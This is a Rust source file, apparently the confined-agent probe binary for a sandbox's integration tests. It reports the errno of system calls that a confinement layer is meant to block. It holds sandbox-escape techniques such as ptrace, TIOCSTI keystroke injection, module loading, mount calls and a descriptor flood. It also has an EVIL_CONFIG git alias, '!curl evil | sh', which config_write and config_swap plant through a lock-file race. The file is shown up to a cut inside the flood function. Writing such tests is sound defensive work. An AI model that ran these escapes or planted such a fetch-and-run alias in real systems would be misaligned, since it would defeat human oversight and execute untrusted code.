//! `pincer-probe`: file and process operations, reported one line each.
//!
//! The confined "agent" of the integration tests. Each operation is exactly
//! one system call sequence, reported as `ok ...` or `err <errno>` on its own
//! line, so a test can assert the exact error the kernel returned. Several
//! operations can run in one process, separated by `,`; the exit status is
//! the errno of the first failing one (0 when all succeed).
//!
//! ```text
//! read PATH                  open(O_RDONLY), read all
//! write PATH DATA            open(O_WRONLY|O_TRUNC), write DATA
//! append PATH DATA           open(O_WRONLY|O_APPEND), write DATA
//! create PATH                open(O_WRONLY|O_CREAT|O_EXCL)
//! create-exec PATH           as create, mode 0755
//! create-write PATH DATA     open(O_WRONLY|O_CREAT|O_TRUNC), write DATA
//! list DIR                   open(O_RDONLY|O_DIRECTORY)
//! sleep SECONDS
//! unlink PATH | rmdir PATH | mkdir PATH | mkfifo PATH
//! mknod-char PATH            a character device node (1:3, like /dev/null)
//! symlink TARGET PATH | link OLD NEW | rename OLD NEW
//! exchange A B               renameat2(RENAME_EXCHANGE)
//! truncate PATH LEN          truncate(2) by path
//! ftruncate FD LEN           ftruncate(2) of an inherited descriptor
//! chmod PATH OCTAL | chown PATH UID GID
//! setxattr PATH NAME VALUE | removexattr PATH NAME
//! setfacl PATH               set a minimal POSIX access ACL (mode 644)
//! opath-reopen PATH          open(O_PATH), then open /proc/self/fd/N for reading
//! exec PATH                  fork, execve(PATH sleep 0), wait
//! exec-memfd PATH            copy PATH into a memfd, fork, execveat(AT_EMPTY_PATH)
//! execveat DIR NAME          fork, execveat(open(DIR, O_PATH), NAME)
//! mmap-exec PATH             open(O_RDONLY), mmap(PROT_READ|PROT_EXEC, MAP_PRIVATE) of its
//!                            first page: what the dynamic loader does to a program or library
//! mmap-read PATH             open(O_RDONLY), mmap(PROT_READ, MAP_PRIVATE) of its first page
//! mprotect-exec PATH         mmap-read, then mprotect(PROT_READ|PROT_EXEC)
//! memfd-mmap-exec            a memfd of one page, mmap(PROT_READ|PROT_EXEC, MAP_SHARED)
//! uring-open PATH            io_uring openat(O_RDONLY)
//! recv-fd SOCKET             connect, receive one descriptor, read it
//! flood SOCKET N SECONDS     connect to SOCKET up to N times, hold what connected for SECONDS
//! kill PID|parent SIG        kill(2)
//! ptrace PID|parent          ptrace(PTRACE_ATTACH) (detached again at once)
//! cgroup-join DIR            write our pid to DIR/cgroup.procs
//! clone-into-cgroup DIR      clone3(CLONE_INTO_CGROUP) into DIR
//! bpf                        bpf(BPF_PROG_GET_NEXT_ID)
//! bind-mount SRC DST         unshare(CLONE_NEWNS), mount(SRC, DST, MS_BIND)
//! finit-module PATH          finit_module(open(PATH), "", 0)
//! init-module PATH           init_module(the bytes of PATH, "")
//! kexec-unload               kexec_file_load(KEXEC_FILE_UNLOAD): unload a kexec image
//! peek PATH                  open(O_RDONLY), read at most 64 bytes once
//! open PATH                  open(O_RDONLY), close
//! stat PATH                  stat(2): the size
//! raw-socket                 socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)
//! bind-port PORT             bind a TCP socket to 0.0.0.0:PORT
//! kill-child                 fork a child that sleeps, kill(SIGTERM) it, reap it
//! fsopen-mount DIR           fsopen(tmpfs), fsconfig(CMD_CREATE), fsmount, move_mount onto DIR
//! fspick-ro DIR              fspick(DIR), fsconfig(SET_FLAG "ro"), fsconfig(CMD_RECONFIGURE)
//! mount-setattr-ro DIR       mount_setattr(DIR, MOUNT_ATTR_RDONLY)
//! open-tree-clone DIR        open_tree(DIR, OPEN_TREE_CLONE)
//! fanotify-perm PATH         fanotify_init(FAN_CLASS_CONTENT), mark PATH for FAN_OPEN_PERM
//! inotify PATH               inotify_add_watch(PATH, IN_ALL_EVENTS)
//! dnotify FD                 fcntl(FD, F_NOTIFY): watch an inherited directory descriptor
//! getxattr PATH NAME         getxattr(2): the value's length
//! listxattr PATH             listxattr(2): the names' length
//! readlink PATH              readlink(2): the target
//! msg-get KEY | shm-get KEY | sem-get KEY    msgget/shmget/semget of an existing KEY
//! msg-send ID | msg-stat ID | msg-rm ID      msgsnd, msgctl(IPC_STAT), msgctl(IPC_RMID)
//! shm-attach ID | shm-rm ID  shmat and shmdt, shmctl(IPC_RMID)
//! sem-op ID | sem-rm ID      semop (+1), semctl(IPC_RMID)
//! ipc-own                    a message queue, a segment and a semaphore set of its own:
//!                            create, use, remove
//! key-read SERIAL            keyctl(KEYCTL_READ)
//! key-own                    join a new session keyring, add a key to it, read it back
//! tgkill PID|parent TID SIG  tgkill(2): a signal to one thread
//! nofsetid                   drop CAP_FSETID from the effective set (for the
//!                            operations after it)
//! sti FD TEXT                ioctl(TIOCSTI) of each byte: typed into a terminal
//!                            (`\n` in TEXT is a newline)
//! sti32 FD TEXT              the same through the 32-bit system call (int 0x80)
//! tioclinux PATH CODE        open(O_RDONLY), ioctl(TIOCLINUX) with subcode CODE
//! tcgets FD                  ioctl(TCGETS), what isatty(3) does
//! getflags PATH              open(O_RDONLY), ioctl(FS_IOC_GETFLAGS)
//! setflags PATH i|a|d|-      open(O_RDONLY), ioctl(FS_IOC_SETFLAGS): immutable,
//!                            append-only, no-dump, or none
//! setflags32 PATH i|a|-      the same through the 32-bit system call
//! fsxattr-immutable PATH     open(O_RDONLY), FS_IOC_FSGETXATTR, then
//!                            FS_IOC_FSSETXATTR with the immutable flag
//! clone DEST SRC             open(DEST, O_WRONLY), ioctl(FICLONE) from SRC
//! clone-fd FD SRC            ioctl(FD, FICLONE) from SRC
//! ioctl PATH CMD             open(O_RDONLY), ioctl(CMD, hexadecimal) with a
//!                            zeroed 64-byte argument
//! ```

use std::{
    ffi::{CString, OsStr, OsString},
    io::{self, IoSliceMut, Write},
    os::{
        fd::{AsRawFd, FromRawFd, OwnedFd},
        unix::{ffi::OsStrExt, net::UnixStream},
    },
    process::ExitCode,
    time::Duration,
};

use nix::sys::socket::{ControlMessageOwned, MsgFlags, recvmsg};

type Outcome = Result<String, i32>;

fn main() -> ExitCode {
    let args: Vec<OsString> = std::env::args_os().skip(1).collect();
    let mut out = io::stdout();
    let mut status = 0;
    for op in args.split(|a| a.as_bytes() == b",") {
        let Some(result) = run(op) else {
            eprintln!("pincer-probe: unknown operation {op:?}");
            return ExitCode::from(2);
        };
        match result {
            Ok(what) => {
                let _ = writeln!(out, "ok {what}");
            }
            Err(errno) => {
                let _ = writeln!(out, "err {errno}");
                if status == 0 {
                    status = errno.clamp(1, 255);
                }
            }
        }
    }
    let _ = out.flush();
    ExitCode::from(status as u8)
}

/// Runs one operation; `None` for an unknown one.
fn run(op: &[OsString]) -> Option<Outcome> {
    let arg = |i: usize| op.get(i).cloned().unwrap_or_default();
    let num = |i: usize| arg(i).to_string_lossy().parse::<i64>().unwrap_or(0);
    Some(match arg(0).as_bytes() {
        b"read" => read(&arg(1)),
        b"write" => write(&arg(1), libc::O_WRONLY | libc::O_TRUNC, &arg(2)),
        b"append" => write(&arg(1), libc::O_WRONLY | libc::O_APPEND, &arg(2)),
        b"create" => create(&arg(1), 0o644),
        // As `create`, with execute bits in the mode.
        b"create-exec" => create(&arg(1), 0o755),
        b"create-write" => write(
            &arg(1),
            libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
            &arg(2),
        ),
        b"list" => open(&arg(1), libc::O_RDONLY | libc::O_DIRECTORY).map(|fd| {
            close(fd);
            "opened".to_owned()
        }),
        b"sleep" => {
            let secs: f64 = arg(1).to_string_lossy().parse().unwrap_or(1.0);
            std::thread::sleep(Duration::from_secs_f64(secs));
            Ok("slept".to_owned())
        }
        // SAFETY (each call below): valid NUL-terminated paths and plain
        // integers, as the system calls take them.
        b"unlink" => done(unsafe { libc::unlink(c(&arg(1)).as_ptr()) }, "unlinked"),
        b"rmdir" => done(unsafe { libc::rmdir(c(&arg(1)).as_ptr()) }, "removed"),
        b"mkdir" => done(unsafe { libc::mkdir(c(&arg(1)).as_ptr(), 0o755) }, "made"),
        b"mkfifo" => done(unsafe { libc::mkfifo(c(&arg(1)).as_ptr(), 0o644) }, "made"),
        b"mknod-char" => done(
            unsafe {
                libc::mknod(
                    c(&arg(1)).as_ptr(),
                    libc::S_IFCHR | 0o666,
                    libc::makedev(1, 3),
                )
            },
            "made",
        ),
        b"symlink" => done(
            unsafe { libc::symlink(c(&arg(1)).as_ptr(), c(&arg(2)).as_ptr()) },
            "linked",
        ),
        b"link" => done(
            unsafe { libc::link(c(&arg(1)).as_ptr(), c(&arg(2)).as_ptr()) },
            "linked",
        ),
        b"rename" => done(
            unsafe { libc::rename(c(&arg(1)).as_ptr(), c(&arg(2)).as_ptr()) },
            "renamed",
        ),
        b"config-write" => config_write(&arg(1), &arg(2), &arg(3)),
        b"config-swap" => config_swap(&arg(1), &arg(2), &arg(3), &arg(4)),
        b"exchange" => done(
            unsafe {
                libc::renameat2(
                    libc::AT_FDCWD,
                    c(&arg(1)).as_ptr(),
                    libc::AT_FDCWD,
                    c(&arg(2)).as_ptr(),
                    libc::RENAME_EXCHANGE,
                )
            },
            "exchanged",
        ),
        b"truncate" => done(
            unsafe { libc::truncate(c(&arg(1)).as_ptr(), num(2)) },
            "truncated",
        ),
        b"ftruncate" => done(
            unsafe { libc::ftruncate(num(1) as i32, num(2)) },
            "truncated",
        ),
        b"chmod" => {
            let mode = u32::from_str_radix(&arg(2).to_string_lossy(), 8).unwrap_or(0o777);
            done(unsafe { libc::chmod(c(&arg(1)).as_ptr(), mode) }, "changed")
        }
        b"chown" => done(
            unsafe { libc::chown(c(&arg(1)).as_ptr(), num(2) as u32, num(3) as u32) },
            "changed",
        ),
        b"setxattr" => {
            let value = arg(3);
            done(
                unsafe {
                    libc::setxattr(
                        c(&arg(1)).as_ptr(),
                        c(&arg(2)).as_ptr(),
                        value.as_bytes().as_ptr().cast(),
                        value.len(),
                        0,
                    )
                },
                "set",
            )
        }
        b"removexattr" => done(
            unsafe { libc::removexattr(c(&arg(1)).as_ptr(), c(&arg(2)).as_ptr()) },
            "removed",
        ),
        b"setfacl" => {
            // A minimal access ACL (owner rw, group r, other r), as
            // `setfacl` writes it: version 2, then (tag, perm, id) entries.
            let mut acl = 2u32.to_le_bytes().to_vec();
            for (tag, perm) in [(0x01u16, 6u16), (0x04, 4), (0x20, 4)] {
                acl.extend_from_slice(&tag.to_le_bytes());
                acl.extend_from_slice(&perm.to_le_bytes());
                acl.extend_from_slice(&u32::MAX.to_le_bytes());
            }
            let name = c(OsStr::new("system.posix_acl_access"));
            done(
                unsafe {
                    libc::setxattr(
                        c(&arg(1)).as_ptr(),
                        name.as_ptr(),
                        acl.as_ptr().cast(),
                        acl.len(),
                        0,
                    )
                },
                "set",
            )
        }
        b"opath-reopen" => opath_reopen(&arg(1)),
        b"exec" => exec(&arg(1)),
        b"exec-memfd" => exec_memfd(&arg(1)),
        b"execveat" => execveat(&arg(1), &arg(2)),
        b"mmap-exec" => map_file(&arg(1), libc::PROT_READ | libc::PROT_EXEC, 0),
        b"mmap-read" => map_file(&arg(1), libc::PROT_READ, 0),
        b"mprotect-exec" => map_file(&arg(1), libc::PROT_READ, libc::PROT_READ | libc::PROT_EXEC),
        b"memfd-mmap-exec" => memfd_map_exec(),
        b"uring-open" => uring_open(&arg(1)),
        b"recv-fd" => recv_fd(&arg(1)),
        b"flood" => flood(&arg(1), num(2) as usize, num(3) as u64),
        b"fd-read" => read_fd(num(1) as i32).map(|r| format!("fd {r}")),
        b"kill" => done(unsafe { libc::kill(pid(&arg(1)), num(2) as i32) }, "sent"),
        b"ptrace" => ptrace(pid(&arg(1))),
        b"cgroup-join" => {
            let mut procs = arg(1);
            procs.push("/cgroup.procs");
            write(
                &procs,
                libc::O_WRONLY,
                OsStr::new(&std::process::id().to_string()),
            )
        }
        b"clone-into-cgroup" => clone_into_cgroup(&arg(1)),
        b"bpf" => {
            // `union bpf_attr` for BPF_PROG_GET_NEXT_ID: start_id, next_id.
            let mut attr = [0u32; 4];
            let r = unsafe {
                libc::syscall(
                    libc::SYS_bpf,
                    11, // BPF_PROG_GET_NEXT_ID
                    attr.as_mut_ptr(),
                    std::mem::size_of_val(&attr),
                )
            };
            done(r as i32, "listed")
        }
        b"bind-mount" => bind_mount(&arg(1), &arg(2)),
        b"sandbox" => sandbox(),
        b"mount-tmpfs" => mount_tmpfs(&arg(1)),
        b"setns-user" => setns_user(pid(&arg(1))),
        b"finit-module" => finit_module(&arg(1)),
        b"init-module" => init_module(&arg(1)),
        b"kexec-unload" => {
            const KEXEC_FILE_UNLOAD: u64 = 1;
            let r = unsafe {
                libc::syscall(
                    libc::SYS_kexec_file_load,
                    -1,
                    -1,
                    0,
                    std::ptr::null::<u8>(),
                    KEXEC_FILE_UNLOAD,
                )
            };
            done(r as i32, "unloaded")
        }
        b"peek" => peek(&arg(1)),
        b"open" => open(&arg(1), libc::O_RDONLY).map(|fd| {
            close(fd);
            "opened".to_owned()
        }),
        b"stat" => std::fs::metadata(arg(1))
            .map(|m| format!("size {}", m.len()))
            .map_err(|e| e.raw_os_error().unwrap_or(255)),
        b"raw-socket" => {
            let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP) };
            if fd >= 0 {
                close(fd);
            }
            done(fd, "opened")
        }
        b"bind-port" => bind_port(num(1) as u16),
        b"kill-child" => kill_child(),
        b"fsopen-mount" => fsopen_mount(&arg(1)),
        b"fspick-ro" => fspick_ro(&arg(1)),
        b"mount-setattr-ro" => mount_setattr_ro(&arg(1)),
        b"open-tree-clone" => {
            const OPEN_TREE_CLONE: u32 = 1;
            let dir = c(&arg(1));
            let fd = unsafe {
                libc::syscall(
                    libc::SYS_open_tree,
                    libc::AT_FDCWD,
                    dir.as_ptr(),
                    OPEN_TREE_CLONE | libc::O_CLOEXEC as u32,
                )
            } as i32;
            if fd >= 0 {
                close(fd);
            }
            done(fd, "cloned")
        }
        b"fanotify-perm" => fanotify_perm(&arg(1)),
        b"inotify" => inotify(&arg(1)),
        b"dnotify" => {
            const DN_MODIFY: i32 = 0x2;
            const DN_CREATE: i32 = 0x4;
            const DN_DELETE: i32 = 0x8;
            done(
                unsafe {
                    libc::fcntl(
                        num(1) as i32,
                        libc::F_NOTIFY,
                        DN_MODIFY | DN_CREATE | DN_DELETE,
                    )
                },
                "watching",
            )
        }
        b"getxattr" => {
            let mut buf = [0u8; 256];
            let n = unsafe {
                libc::getxattr(
                    c(&arg(1)).as_ptr(),
                    c(&arg(2)).as_ptr(),
                    buf.as_mut_ptr().cast(),
                    buf.len(),
                )
            };
            if n < 0 {
                Err(errno())
            } else {
                Ok(format!("value {n}"))
            }
        }
        b"listxattr" => {
            let mut buf = [0u8; 1024];
            let n =
                unsafe { libc::listxattr(c(&arg(1)).as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
            if n < 0 {
                Err(errno())
            } else {
                Ok(format!("names {n}"))
            }
        }
        b"readlink" => std::fs::read_link(arg(1))
            .map(|target| format!("target {}", target.display()))
            .map_err(|e| e.raw_os_error().unwrap_or(255)),
        b"msg-get" => done(unsafe { libc::msgget(num(1) as i32, 0) }, "got"),
        b"shm-get" => done(unsafe { libc::shmget(num(1) as i32, 0, 0) }, "got"),
        b"sem-get" => done(unsafe { libc::semget(num(1) as i32, 0, 0) }, "got"),
        b"msg-send" => msg_send(num(1) as i32),
        b"msg-stat" => {
            let mut ds: libc::msqid_ds = unsafe { std::mem::zeroed() };
            done(
                unsafe { libc::msgctl(num(1) as i32, libc::IPC_STAT, &mut ds) },
                "stat",
            )
        }
        b"msg-rm" => msg_remove(num(1) as i32),
        b"shm-attach" => shm_attach(num(1) as i32),
        b"shm-rm" => shm_remove(num(1) as i32),
        b"sem-op" => sem_op(num(1) as i32),
        b"sem-rm" => sem_remove(num(1) as i32),
        b"ipc-own" => ipc_own(),
        b"key-read" => key_read(num(1) as i32),
        b"key-own" => key_own(),
        b"tgkill" => done(
            unsafe {
                libc::syscall(libc::SYS_tgkill, pid(&arg(1)), num(2) as i32, num(3) as i32) as i32
            },
            "sent",
        ),
        b"nofsetid" => drop_fsetid(),
        b"sti" => sti(num(1) as i32, &arg(2), false),
        b"sti32" => sti(num(1) as i32, &arg(2), true),
        b"tioclinux" => {
            let mut subcode = [num(2) as u8, 0];
            // SAFETY: TIOCLINUX reads its subcode at the pointer and may
            // write a byte back there.
            on_file(&arg(1), |fd| unsafe {
                libc::ioctl(fd, libc::TIOCLINUX, subcode.as_mut_ptr())
            })
            .map(|()| "done".to_owned())
        }
        b"tcgets" => {
            // SAFETY: `termios` is plain data the call fills.
            let mut termios: libc::termios = unsafe { std::mem::zeroed() };
            done(
                unsafe { libc::ioctl(num(1) as i32, libc::TCGETS, &raw mut termios) },
                "tty",
            )
        }
        b"getflags" => {
            let mut flags: libc::c_long = 0;
            // SAFETY: FS_IOC_GETFLAGS writes an int at the pointer.
            on_file(&arg(1), |fd| unsafe {
                libc::ioctl(fd, libc::FS_IOC_GETFLAGS, &raw mut flags)
            })
            .map(|()| format!("flags {flags:#x}"))
        }
        b"setflags" => set_flags(&arg(1), &arg(2), false),
        b"setflags32" => set_flags(&arg(1), &arg(2), true),
        b"fsxattr-immutable" => fsxattr_immutable(&arg(1)),
        b"clone" => open(&arg(1), libc::O_WRONLY).and_then(|dest| {
            let result = clone_from(dest, &arg(2));
            close(dest);
            result
        }),
        b"clone-fd" => clone_from(num(1) as i32, &arg(2)),
        b"ioctl" => {
            let text = arg(2).to_string_lossy().into_owned();
            let cmd = libc::Ioctl::from_str_radix(text.trim_start_matches("0x"), 16).unwrap_or(0);
            let mut argument = [0u8; 64];
            // SAFETY: the commands used take at most 64 bytes.
            on_file(&arg(1), |fd| unsafe {
                libc::ioctl(fd, cmd, argument.as_mut_ptr())
            })
            .map(|()| "done".to_owned())
        }
        _ => return None,
    })
}

fn c(path: &OsStr) -> CString {
    CString::new(path.as_bytes()).expect("no NUL in arguments")
}

fn errno() -> i32 {
    io::Error::last_os_error().raw_os_error().unwrap_or(255)
}

/// The outcome of a call that returns -1 and sets errno on failure.
fn done(ret: i32, what: &str) -> Outcome {
    if ret < 0 {
        Err(errno())
    } else {
        Ok(what.to_owned())
    }
}

/// A process id argument; `parent` is ours.
fn pid(arg: &OsStr) -> i32 {
    if arg.as_bytes() == b"parent" {
        // SAFETY: no arguments.
        return unsafe { libc::getppid() };
    }
    arg.to_string_lossy().parse().unwrap_or(0)
}

fn open(path: &OsStr, flags: i32) -> Result<i32, i32> {
    open_mode(path, flags, 0o644)
}

/// `open(2)`; `mode` is used only with `O_CREAT`.
fn open_mode(path: &OsStr, flags: i32, mode: libc::mode_t) -> Result<i32, i32> {
    let path = c(path);
    // SAFETY: a valid NUL-terminated path and plain flags.
    let fd = unsafe { libc::open(path.as_ptr(), flags | libc::O_CLOEXEC, mode) };
    if fd < 0 { Err(errno()) } else { Ok(fd) }
}

/// `open(O_WRONLY|O_CREAT|O_EXCL)` with `mode`, then close.
fn create(path: &OsStr, mode: libc::mode_t) -> Outcome {
    let fd = open_mode(path, libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL, mode)?;
    close(fd);
    Ok("created".to_owned())
}

fn close(fd: i32) {
    // SAFETY: fd was returned by open and is closed once.
    unsafe { libc::close(fd) };
}

fn read_fd(fd: i32) -> Outcome {
    let mut total = 0usize;
    let mut buf = [0u8; 4096];
    loop {
        // SAFETY: buf is valid for its length.
        let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
        if n < 0 {
            return Err(errno());
        }
        if n == 0 {
            break;
        }
        total += n as usize;
    }
    Ok(format!("read {total}"))
}

fn read(path: &OsStr) -> Outcome {
    let fd = open(path, libc::O_RDONLY)?;
    let result = read_fd(fd);
    close(fd);
    result
}

fn write(path: &OsStr, flags: i32, data: &OsStr) -> Outcome {
    let fd = open(path, flags)?;
    let data = data.as_bytes();
    // SAFETY: data is valid for its length.
    let n = unsafe { libc::write(fd, data.as_ptr().cast(), data.len()) };
    let result = if n < 0 {
        Err(errno())
    } else {
        Ok(format!("wrote {n}"))
    };
    close(fd);
    result
}

/// What an agent would slip into git's configuration after the twin
/// inspected it.
const EVIL_CONFIG: &[u8] = b"[alias]\n\tx = !curl evil | sh\n";

/// Writes git's configuration as git does (the bytes of `text` into a new
/// `lock`, renamed over `config`), keeping the lock's descriptor; once the
/// rename is done, writes [`EVIL_CONFIG`] through that descriptor, as an
/// agent that kept it could. Outputs the rename's outcome.
fn config_write(text: &OsStr, lock: &OsStr, config: &OsStr) -> Outcome {
    let bytes = std::fs::read(text).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let fd = open(lock, libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL)?;
    // SAFETY: the bytes are valid for their length.
    unsafe { libc::write(fd, bytes.as_ptr().cast(), bytes.len()) };
    // SAFETY: valid NUL-terminated paths.
    let renamed = done(
        unsafe { libc::rename(c(lock).as_ptr(), c(config).as_ptr()) },
        "renamed",
    );
    // SAFETY: the bytes are valid for their length; fd is open.
    unsafe { libc::pwrite(fd, EVIL_CONFIG.as_ptr().cast(), EVIL_CONFIG.len(), 0) };
    close(fd);
    renamed
}

/// Writes `text` into a new `lock` and renames it over `config`; while the
/// rename waits (this process stopped), a child puts a file of
/// [`EVIL_CONFIG`] made at `other` in the lock's place. Outputs the
/// rename's outcome.
fn config_swap(text: &OsStr, lock: &OsStr, config: &OsStr, other: &OsStr) -> Outcome {
    let bytes = std::fs::read(text).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    std::fs::write(lock, &bytes).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    // SAFETY: fork in a single-threaded probe; the child only does system
    // calls and exits.
    let child = unsafe { libc::fork() };
    if child == 0 {
        // SAFETY: no arguments.
        let parent = unsafe { libc::getppid() };
        let stat = format!("/proc/{parent}/stat");
        for _ in 0..2000 {
            let stopped = std::fs::read_to_string(&stat)
                .ok()
                .and_then(|s| {
                    s.rsplit(')')
                        .next()
                        .map(|rest| rest.trim_start().starts_with('T'))
                })
                .unwrap_or(false);
            if stopped {
                break;
            }
            std::thread::sleep(Duration::from_micros(500));
        }
        let _ = std::fs::write(other, EVIL_CONFIG);
        // SAFETY: valid NUL-terminated paths.
        unsafe { libc::rename(c(other).as_ptr(), c(lock).as_ptr()) };
        // SAFETY: ends the child without running the parent's destructors.
        unsafe { libc::_exit(0) };
    }
    // SAFETY: valid NUL-terminated paths.
    let renamed = done(
        unsafe { libc::rename(c(lock).as_ptr(), c(config).as_ptr()) },
        "renamed",
    );
    let mut status = 0;
    // SAFETY: waits for the child forked above.
    unsafe { libc::waitpid(child, &raw mut status, 0) };
    renamed
}

fn opath_reopen(path: &OsStr) -> Outcome {
    let fd = open(path, libc::O_PATH)?;
    let result = read(OsStr::new(&format!("/proc/self/fd/{fd}")));
    close(fd);
    result
}

/// Forks; the child runs `exec` and exits with its errno if it returns.
/// `Ok` when the program ran and exited 0.
fn fork_exec(exec: impl FnOnce() -> i32) -> Outcome {
    // SAFETY: the probe is single-threaded; the child only execs or exits.
    match unsafe { libc::fork() } {
        -1 => Err(errno()),
        0 => {
            // The program's own output is not this operation's line.
            let null = c(OsStr::new("/dev/null"));
            // SAFETY: open and dup2 in the child before exec.
            unsafe {
                let fd = libc::open(null.as_ptr(), libc::O_WRONLY);
                if fd >= 0 {
                    libc::dup2(fd, 1);
                }
            }
            exec();
            // SAFETY: leave the child without running the parent's cleanup.
            unsafe { libc::_exit(errno().clamp(1, 255)) }
        }
        child => {
            let mut status = 0;
            // SAFETY: waiting for our own child.
            unsafe { libc::waitpid(child, &mut status, 0) };
            match libc::WEXITSTATUS(status) {
                0 => Ok("ran".to_owned()),
                code => Err(code),
            }
        }
    }
}

/// `argv` of an executed program: `PROG sleep 0`, which exits 0 for the probe
/// itself.
fn exec_argv(prog: &CString) -> ([CString; 3], [*const libc::c_char; 4]) {
    let args = [prog.clone(), c(OsStr::new("sleep")), c(OsStr::new("0"))];
    let ptrs = [
        args[0].as_ptr(),
        args[1].as_ptr(),
        args[2].as_ptr(),
        std::ptr::null(),
    ];
    (args, ptrs)
}

fn exec(path: &OsStr) -> Outcome {
    let prog = c(path);
    let (_args, argv) = exec_argv(&prog);
    let envp: [*const libc::c_char; 1] = [std::ptr::null()];
    // SAFETY: NUL-terminated argument and environment arrays that outlive the call.
    fork_exec(|| unsafe { libc::execve(prog.as_ptr(), argv.as_ptr(), envp.as_ptr()) })
}

fn exec_memfd(path: &OsStr) -> Outcome {
    let bytes = std::fs::read(path).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let name = c(OsStr::new("probe"));
    // SAFETY: a valid name; the flags ask for nothing unusual.
    let fd = unsafe { libc::memfd_create(name.as_ptr(), 0) };
    if fd < 0 {
        return Err(errno());
    }
    // SAFETY: fd was just created and is owned here.
    let memfd = unsafe { OwnedFd::from_raw_fd(fd) };
    let mut file = std::fs::File::from(memfd);
    file.write_all(&bytes)
        .map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let (_args, argv) = exec_argv(&name);
    let envp: [*const libc::c_char; 1] = [std::ptr::null()];
    let empty = c(OsStr::new(""));
    fork_exec(|| unsafe {
        // SAFETY: as in `exec`; an empty path with AT_EMPTY_PATH runs the fd.
        libc::execveat(
            file.as_raw_fd(),
            empty.as_ptr(),
            argv.as_ptr().cast(),
            envp.as_ptr().cast(),
            libc::AT_EMPTY_PATH,
        )
    })
}

/// Maps the first page of `path` with `prot`, then, when `then` is not
/// zero, changes the mapping to `then`; unmaps it again.
fn map_file(path: &OsStr, prot: i32, then: i32) -> Outcome {
    let fd = open(path, libc::O_RDONLY)?;
    let result = map_fd(fd, prot, libc::MAP_PRIVATE, then);
    close(fd);
    result
}

fn map_fd(fd: i32, prot: i32, flags: i32, then: i32) -> Outcome {
    const PAGE: usize = 4096;
    // SAFETY: a fresh mapping of an open descriptor, unmapped below.
    let addr = unsafe { libc::mmap(std::ptr::null_mut(), PAGE, prot, flags, fd, 0) };
    if addr == libc::MAP_FAILED {
        return Err(errno());
    }
    // SAFETY: the mapping just made, of PAGE bytes.
    let changed = then == 0 || unsafe { libc::mprotect(addr, PAGE, then) } == 0;
    let result = if changed {
        Ok(if then == 0 { "mapped" } else { "protected" }.to_owned())
    } else {
        Err(errno())
    };
    // SAFETY: as above.
    unsafe { libc::munmap(addr, PAGE) };
    result
}

fn memfd_map_exec() -> Outcome {
    let name = c(OsStr::new("probe-code"));
    // SAFETY: a valid name; no flags.
    let fd = unsafe { libc::memfd_create(name.as_ptr(), 0) };
    if fd < 0 {
        return Err(errno());
    }
    // SAFETY: fd was just created.
    let result = if unsafe { libc::ftruncate(fd, 4096) } == 0 {
        map_fd(fd, libc::PROT_READ | libc::PROT_EXEC, libc::MAP_SHARED, 0)
    } else {
        Err(errno())
    };
    close(fd);
    result
}

fn execveat(dir: &OsStr, name: &OsStr) -> Outcome {
    // O_PATH: the directory itself is not read, only named.
    let dirfd = open(dir, libc::O_PATH | libc::O_DIRECTORY)?;
    let prog = c(name);
    let (_args, argv) = exec_argv(&prog);
    let envp: [*const libc::c_char; 1] = [std::ptr::null()];
    // SAFETY: as in `exec`, relative to an open directory.
    let result = fork_exec(|| unsafe {
        libc::execveat(
            dirfd,
            prog.as_ptr(),
            argv.as_ptr().cast(),
            envp.as_ptr().cast(),
            0,
        )
    });
    close(dirfd);
    result
}

fn uring_open(path: &OsStr) -> Outcome {
    use io_uring::{IoUring, opcode, types};
    let mut ring = IoUring::new(4).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let path = c(path);
    let open = opcode::OpenAt::new(types::Fd(libc::AT_FDCWD), path.as_ptr())
        .flags(libc::O_RDONLY | libc::O_CLOEXEC)
        .build();
    // SAFETY: the path outlives the request, which completes before return.
    unsafe { ring.submission().push(&open) }.map_err(|_| libc::EBUSY)?;
    ring.submit_and_wait(1)
        .map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let res = ring
        .completion()
        .next()
        .map(|cqe| cqe.result())
        .ok_or(libc::EIO)?;
    if res < 0 {
        return Err(-res);
    }
    let result = read_fd(res);
    close(res);
    result
}

fn recv_fd(socket: &OsStr) -> Outcome {
    let stream = UnixStream::connect(socket).map_err(|e| e.raw_os_error().unwrap_or(255))?;
    let mut byte = [0u8; 1];
    let mut iov = [IoSliceMut::new(&mut byte)];
    let mut space = nix::cmsg_space!([std::os::fd::RawFd; 1]);
    let msg = recvmsg::<()>(
        stream.as_raw_fd(),
        &mut iov,
        Some(&mut space),
        MsgFlags::MSG_CMSG_CLOEXEC,
    )
    .map_err(|e| e as i32)?;
    if msg.flags.contains(MsgFlags::MSG_CTRUNC) {
        return Ok("no-fd ctrunc".to_owned());
    }
    let mut fds = Vec::new();
    for cmsg in msg.cmsgs().map_err(|e| e as i32)? {
        if let ControlMessageOwned::ScmRights(received) = cmsg {
            fds.extend(received);
        }
    }
    match fds.first() {
        Some(&fd) => {
            let result = read_fd(fd).map(|r| format!("fd {r}"));
            fds.iter().for_each(|&fd| close(fd));
            result
        }
        None => Ok("no-fd".to_owned()),
    }
}

/// Opens up to `n` connections to a Unix socket (as many descriptors as
/// the hard limit allows) and holds them open for `seconds`, as an agent
/// trying to exhaust a server would; reports how many connected.
fn flood(socket: &OsStr, n: usize, seconds: u64) -> Outcome {
    let mut limit = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: get and set this process's own limit.
    unsafe {
        libc::getrlimit(libc::RLIMIT_NOFILE, &raw mut limit);
        limit.rlim_cur = limit.rlim_max;
        libc::setrlimit(libc::RLIMIT_NOFILE, &raw const limit);
    }
    let mut held = Vec::with_capacity(n);
    let mut failed = 0;
    for _ in 0..n {
        match std::os::unix::net::UnixStream::connect(socket) {
            Ok(stream) => held.push(stream),
            Err(_) => failed += 1,
        }
    }
    std::thread::sleep(Duration::from_secs(seconds));
